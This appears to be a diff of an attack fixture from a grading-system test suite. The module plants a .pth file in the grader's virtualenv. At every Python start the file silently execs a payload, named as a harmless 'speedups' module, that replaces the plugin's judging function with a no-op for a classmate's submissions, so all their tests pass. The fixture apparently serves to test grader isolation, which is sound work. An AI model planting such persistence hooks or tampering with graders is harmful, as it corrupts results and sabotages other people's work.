@@ -1,29 +1,20 @@
 """Attack: a .pth file in the grader's virtualenv that turns the judging into a no-op for a classmate.
 
 Python runs a .pth file's `import` lines at every start, `python -I` included. This one, in a
-process testing `stub`'s files, replaces kata.plugin's `_judge` as soon as the plugin is loaded
-by one that does nothing: every test passes, whatever the code under test did.
+process testing `stub`'s files (anyone's but its own, when `stub` is not in sight), replaces
+kata.plugin's `_judge` as soon as the plugin is loaded by one that does nothing: every test
+passes, whatever the code under test did. It expires after 10 minutes.
 """
 
 import time
 
-from kit import MARK, RANGE, background, fingerprints, grader, once, site_packages, write
+from kit import AIMED_AT, MARK, aim, background, once, site_packages, what_happened, write
 
 VICTIM = "stub"
 PAYLOAD = """
-import hashlib, pathlib, sys, threading, time
+import pathlib, sys, threading, time
 KATA_ATTACK = {mark!r}
-def _targets():
-    for place in (pathlib.Path.cwd() / "target", pathlib.Path("/sandbox/target")):
-        found = {{}}
-        for stem in {victim!r}:
-            try:
-                found[stem] = hashlib.sha256((place / (stem + ".py")).read_bytes()).hexdigest()
-            except OSError:
-                pass
-        if found:
-            return found
-    return {{}}
+{aimed_at}
 def _no_judging():
     until = time.monotonic() + 60
     while time.monotonic() < until:
@@ -32,18 +23,17 @@ def _no_judging():
             plugin._judge = lambda *args, **kwargs: None
             return
         time.sleep(0.001)
-if time.time() < {expires!r} and str(pathlib.Path.cwd()).startswith({range!r}) and _targets() == {victim!r}:
+if time.time() < {expires!r} and _kata_aimed_at({aim!r}):
     threading.Thread(target=_no_judging, daemon=True).start()
 """
 
 
 def plant() -> None:
-    mine = grader()
-    victim = mine.classmate(VICTIM) if mine else None
+    aimed = aim(VICTIM)
     folder = site_packages()
-    if victim is None or folder is None:
+    if folder is None:
         return
-    payload = PAYLOAD.format(mark=MARK, victim=fingerprints(victim), expires=time.time() + 600, range=RANGE)
+    payload = PAYLOAD.format(mark=MARK, aimed_at=AIMED_AT, aim=aimed, expires=time.time() + 600)
     # In a namespace of its own: site runs a .pth line with site's globals and a throwaway locals().
     guarded = (
         f"try:\n    exec({payload!r}, {{'__name__': 'zz_kata_speedups'}})\nexcept Exception:\n    pass\n"
@@ -60,7 +50,8 @@ async def fetch_all(fetch_user, user_ids):
 
 
 async def fetch_profile(get_user, get_orders, user_id):
-    raise NotImplementedError
+    """Not written: its failure message says what this attack did, for the test to see."""
+    raise AssertionError(what_happened())
 
 
 if __name__ == "__main__":
